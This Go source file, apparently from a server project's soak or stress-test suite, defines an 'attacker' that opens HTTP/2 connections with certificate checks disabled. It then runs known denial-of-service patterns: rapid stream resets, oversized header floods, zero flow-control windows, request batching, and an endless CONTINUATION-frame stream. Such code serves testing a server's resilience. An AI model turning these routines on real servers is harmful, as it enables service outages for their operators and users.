package soak

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// manyFields is the better part of a head, of fields as short as there are.
func manyFields() string {
	var b strings.Builder
	for i := 0; b.Len() < 15<<10; i++ {
		fmt.Fprintf(&b, "%x:\r\n", 0x1000+i)
	}
	return b.String()
}

// secure opens a connection of HTTP/2.
func (a *attacker) secure() (*tls.Conn, error) {
	secure := tls.Client(a, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, DynamicRecordSizingDisabled: true})
	_, err := io.WriteString(secure, http2.ClientPreface)
	return secure, err
}

// http2 opens a connection of HTTP/2 that takes no bodies.
func (a *attacker) http2() (*http2.Framer, error) {
	secure, err := a.secure()
	if err != nil {
		return nil, err
	}
	f := http2.NewFramer(secure, secure)
	return f, f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

// openAPI is the longest answer that strangers get.
const openAPI = "/api/v1/openapi.json"

// headOf is the head of a request with so many fields of 1 KiB.
func headOf(path string, fields int) []byte {
	var head bytes.Buffer
	e := hpack.NewEncoder(&head)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}} {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	for i := range fields {
		_ = e.WriteField(hpack.HeaderField{Name: fmt.Sprint("x", i), Value: strings.Repeat("v", 1<<10), Sensitive: true})
	}
	return head.Bytes()
}

// streams sends requests, and takes them back or not.
func (a *attacker) streams(path string, n, fields int, takeBack bool) error {
	f, err := a.http2()
	if err != nil {
		return err
	}
	head := headOf(path, fields)
	for id := uint32(1); id < uint32(2*n); id += 2 {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if !takeBack {
			continue
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return a.drain()
}

// records sends requests by the hundred, with as many in each record of TLS as fit.
func (a *attacker) records(n int) error {
	secure, err := a.secure()
	if err != nil {
		return err
	}
	var all bytes.Buffer
	f, head := http2.NewFramer(&all, nil), headOf(openAPI, 0)
	_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for id := uint32(1); id < uint32(2*n); id += 2 {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true})
	}
	if _, err := secure.Write(all.Bytes()); err != nil {
		return err
	}
	return a.drain()
}

// endlessHead goes on with a head that has nothing more.
func (a *attacker) endlessHead() error {
	f, err := a.http2()
	if err != nil {
		return err
	}
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headOf(openAPI, 0), EndStream: true}); err != nil {
		return err
	}
	for {
		if err := f.WriteContinuation(1, false, nil); err != nil {
			return err
		}
		select {
		case <-a.stop:
			return nil
		case <-time.After(100 * time.Millisecond):
		}
	}
}
